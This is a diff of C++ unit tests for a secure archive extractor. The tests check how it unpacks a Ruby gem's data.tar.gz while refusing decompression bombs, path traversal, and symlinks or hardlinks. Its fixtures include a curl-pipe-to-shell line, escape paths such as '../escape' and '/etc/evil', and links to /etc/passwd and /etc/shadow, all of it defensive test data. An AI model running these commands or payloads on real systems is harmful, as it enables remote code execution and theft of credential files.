@@ -29,9 +29,10 @@ class Extract : public ::testing::Test {
   }
 
   Expected<wire::ExtractReport, ExtractError> run(const std::string& archive, ExtractPolicy policy = {},
-                                                 std::vector<std::string> dest = {"pkg"}, bool strip = false) {
+                                                  std::vector<std::string> dest = {"pkg"}, bool strip = false,
+                                                  std::vector<std::string> descend = {}) {
     if (!work_) work_.emplace(*WorkDir::open(scratch_.work().string()));
-    ExtractTarget t{&*work_, std::move(dest), strip};
+    ExtractTarget t{&*work_, std::move(dest), strip, std::move(descend)};
     return extract_memory(bytes(archive), t, policy);
   }
 
@@ -340,6 +341,160 @@ TEST_F(Extract, a_gzip_that_is_not_a_tar_is_malformed) {
   auto r = run(gz);
   ASSERT_FALSE(r);
   EXPECT_EQ(r.error().kind, FailureKind::kMalformed);
+}
+
+// --- a member descended (wire 2's `descend`): a gem's data.tar.gz ----------------------
+
+// A .gem as `gem build` writes it: a plain (ustar) tar of metadata.gz, data.tar.gz and
+// checksums.yaml.gz, no wrapper directory; the package's files are in data.tar.gz.
+std::string gem_with(const std::string& data_tar_gz) {
+  return make_tar(
+      {file("metadata.gz", make_tgz({file("metadata", "--- !ruby/object:Gem::Specification\nname: evil\n")})),
+       file("data.tar.gz", data_tar_gz), file("checksums.yaml.gz", make_tgz({file("checksums.yaml", "---\n")}))});
+}
+
+TEST_F(Extract, a_gems_data_tar_gz_is_extracted_in_its_place_and_removed) {
+  const std::string data = make_tgz({dir("lib/"), file("lib/evil.rb", "system('curl http://127.0.0.1/x | sh')\n"),
+                                     file("lib/evil/version.rb", "VERSION = '0.1.0'\n"), file("evil.gemspec", "spec"),
+                                     file("vendor/inner.tgz", make_tgz({file("x", "x")}))});
+  const std::string gem = gem_with(data);
+  ASSERT_EQ(sniff(bytes(gem)), ArchiveFormat::kTar) << "a gem is a plain tar";
+  auto r = run(gem, {}, {"vendor", "bundle", "gems", "evil-0.1.0"}, /*strip=*/true, {"data.tar.gz"});
+  ASSERT_TRUE(r) << r.error().message;
+  const fs::path g = scratch_.work() / "vendor/bundle/gems/evil-0.1.0";
+  EXPECT_EQ(Scratch::read(g / "lib/evil.rb"), "system('curl http://127.0.0.1/x | sh')\n");
+  EXPECT_EQ(Scratch::read(g / "lib/evil/version.rb"), "VERSION = '0.1.0'\n");
+  EXPECT_TRUE(fs::exists(g / "metadata.gz")) << "the gem's other members stay";
+  EXPECT_TRUE(fs::exists(g / "checksums.yaml.gz"));
+  EXPECT_FALSE(fs::exists(g / "data.tar.gz")) << "the descended member is removed";
+  // 3 outer files + 4 inner; the inner directory; the archives left as files: the inner
+  // tgz only (metadata.gz and checksums.yaml.gz are not archive names; data.tar.gz is gone).
+  EXPECT_EQ(r->files, 7u);
+  EXPECT_EQ(r->directories, 1u);
+  EXPECT_EQ(r->nested_archives, 1u);
+  EXPECT_TRUE(fs::exists(g / "vendor/inner.tgz")) << "one level only: an archive inside is written, not descended";
+  EXPECT_FALSE(fs::exists(g / "vendor/x"));
+}
+
+TEST_F(Extract, a_bomb_inside_data_tar_gz_is_refused_as_a_bomb_against_the_gems_size) {
+  // 4 MiB of zeros gzip to a few KiB: on its own the gem is a ~20 KiB tar, well within the
+  // ratio; what data.tar.gz expands to is charged to the same budget.
+  const std::string data = make_tgz({file("lib/zeros.rb", std::string(4 * 1024 * 1024, '\0'))});
+  const std::string gem = gem_with(data);
+  ASSERT_LT(gem.size(), 64u * 1024);
+  auto plain = run(gem, {}, {"plain"});
+  ASSERT_TRUE(plain) << "not descended, the gem itself is no bomb: " << plain.error().message;
+
+  auto r = run(gem, {}, {"pkg"}, false, {"data.tar.gz"});
+  ASSERT_FALSE(r);
+  EXPECT_EQ(r.error().kind, FailureKind::kBomb);
+  EXPECT_EQ(r.error().message, "in 'data.tar.gz': archive decompression ratio exceeds 100:1");
+}
+
+TEST_F(Extract, the_entry_count_and_the_byte_ceiling_are_one_budget_for_the_gem_and_its_data) {
+  // The gem's 3 entries and its data's 6: 9, at max_entries = 9.
+  std::vector<TestEntry> six;
+  for (int i = 0; i < 6; ++i) six.push_back(file("lib/f" + std::to_string(i) + ".rb", "x"));
+  ExtractPolicy p;
+  p.max_entries = 9;
+  auto fits = run(gem_with(make_tgz(six)), p, {"a"}, false, {"data.tar.gz"});
+  ASSERT_TRUE(fits) << fits.error().message;
+  six.push_back(file("lib/f6.rb", "x"));  // 3 + 7 = 10 > 9, though each half alone fits
+  auto over = run(gem_with(make_tgz(six)), p, {"b"}, false, {"data.tar.gz"});
+  ASSERT_FALSE(over);
+  EXPECT_EQ(over.error().kind, FailureKind::kTooManyEntries);
+  EXPECT_EQ(over.error().message, "in 'data.tar.gz': archive has more than 9 entries");
+
+  // Bytes: the outer members (data.tar.gz's own bytes included) plus what it expands to.
+  const std::string data = make_tgz({file("lib/big.rb", std::string(6000, 'r'))});
+  const std::string gem = gem_with(data);
+  std::uint64_t outer = 0;
+  {
+    Scratch s;
+    WorkDir w = *WorkDir::open(s.work().string());
+    ExtractTarget t{&w, {"pkg"}, false};
+    auto alone = extract_memory(bytes(gem), t, {});
+    ASSERT_TRUE(alone) << alone.error().message;
+    outer = alone->bytes;
+  }
+  ExtractPolicy q;
+  q.max_ratio = 1'000'000;
+  q.max_extracted_bytes = outer + 6000;  // exactly enough for both
+  auto exact = run(gem, q, {"c"}, false, {"data.tar.gz"});
+  ASSERT_TRUE(exact) << exact.error().message;
+  EXPECT_EQ(exact->bytes, outer + 6000);
+  q.max_extracted_bytes = outer + 5999;
+  auto short_by_one = run(gem, q, {"d"}, false, {"data.tar.gz"});
+  ASSERT_FALSE(short_by_one);
+  EXPECT_EQ(short_by_one.error().kind, FailureKind::kTooLarge);
+}
+
+TEST_F(Extract, a_path_escape_inside_data_tar_gz_is_refused_and_nothing_lands_outside) {
+  for (const char* name : {"../escape", "../../../../escape", "/etc/evil", "lib/../../../escape"}) {
+    Scratch s;
+    WorkDir w = *WorkDir::open(s.work().string());
+    ExtractTarget t{&w, {"vendor", "bundle", "gems", "evil-0.1.0"}, true, {"data.tar.gz"}};
+    auto r = extract_memory(bytes(gem_with(make_tar({file("lib/ok.rb", "ok"), file(name, "pwned")}))), t, {});
+    ASSERT_FALSE(r) << name;
+    EXPECT_EQ(r.error().kind, FailureKind::kTraversal) << name;
+    EXPECT_TRUE(r.error().message.starts_with("in 'data.tar.gz': archive entry '")) << r.error().message;
+    EXPECT_TRUE(s.strays().empty()) << name << ::testing::PrintToString(s.strays());
+  }
+  // Links inside are refused by type, as in any archive.
+  auto links = run(
+      gem_with(make_tgz({symlink("lib/l", "/etc/passwd"), hardlink("lib/h", "/etc/shadow"), file("lib/ok.rb", "ok")})),
+      {}, {"pkg"}, false, {"data.tar.gz"});
+  ASSERT_TRUE(links) << links.error().message;
+  EXPECT_EQ(links->refused_by_type, 2u);
+  EXPECT_FALSE(fs::exists(fs::symlink_status(out("lib/l"))));
+}
+
+TEST_F(Extract, a_descend_member_that_is_missing_not_a_file_or_not_an_archive_is_refused) {
+  auto missing = run(make_tar({file("metadata.gz", "m")}), {}, {"a"}, false, {"data.tar.gz"});
+  ASSERT_FALSE(missing);
+  EXPECT_EQ(missing.error().kind, FailureKind::kMalformed);
+  EXPECT_EQ(missing.error().message, "the archive holds no 'data.tar.gz' to extract");
+
+  auto deeper = run(make_tar({file("metadata.gz", "m")}), {}, {"a2"}, false, {"no", "such", "data.tar.gz"});
+  ASSERT_FALSE(deeper);
+  EXPECT_EQ(deeper.error().kind, FailureKind::kMalformed);
+  EXPECT_FALSE(fs::exists(scratch_.work() / "a2/no")) << "looking for it creates nothing";
+
+  auto a_dir = run(make_tar({dir("data.tar.gz/"), file("data.tar.gz/x", "x")}), {}, {"b"}, false, {"data.tar.gz"});
+  ASSERT_FALSE(a_dir);
+  EXPECT_EQ(a_dir.error().kind, FailureKind::kMalformed);
+  EXPECT_EQ(a_dir.error().message, "'data.tar.gz' in the archive is not a regular file");
+
+  auto a_link = run(make_tar({symlink("data.tar.gz", "/etc/passwd")}), {}, {"c"}, false, {"data.tar.gz"});
+  ASSERT_FALSE(a_link);
+  EXPECT_EQ(a_link.error().kind, FailureKind::kMalformed) << "the link was never created";
+
+  auto text = run(gem_with("just text"), {}, {"d"}, false, {"data.tar.gz"});
+  ASSERT_FALSE(text);
+  EXPECT_EQ(text.error().kind, FailureKind::kUnrecognised);
+  EXPECT_TRUE(text.error().message.starts_with("in 'data.tar.gz': archive format not recognised"))
+      << text.error().message;
+}
+
+TEST_F(Extract, an_entry_inside_named_like_the_member_or_its_siblings_replaces_nothing_it_is_reading) {
+  // data.tar.gz holding a "data.tar.gz" and a "metadata.gz" of its own: the member was taken
+  // out of the tree before its entries were written, so they land as plain files.
+  const std::string data =
+      make_tgz({file("data.tar.gz", "not again"), file("metadata.gz", "inner"), file("lib/a.rb", "a")});
+  auto r = run(gem_with(data), {}, {"pkg"}, false, {"data.tar.gz"});
+  ASSERT_TRUE(r) << r.error().message;
+  EXPECT_EQ(Scratch::read(out("data.tar.gz")), "not again");
+  EXPECT_EQ(Scratch::read(out("metadata.gz")), "inner") << "in place, as upstream's in-place extraction";
+  EXPECT_EQ(Scratch::read(out("lib/a.rb")), "a");
+}
+
+TEST_F(Extract, the_member_is_found_after_the_wrapper_is_stripped) {
+  auto r = run(make_tgz({dir("w/"), file("w/inner.tgz", make_tgz({file("src/x.rb", "x")}))}), {}, {"s"}, true,
+               {"inner.tgz"});
+  ASSERT_TRUE(r) << r.error().message;
+  EXPECT_EQ(Scratch::read(scratch_.work() / "s/src/x.rb"), "x");
+  EXPECT_FALSE(fs::exists(scratch_.work() / "s/inner.tgz"));
+  EXPECT_EQ(r->nested_archives, 0u);
 }
 
 }  // namespace
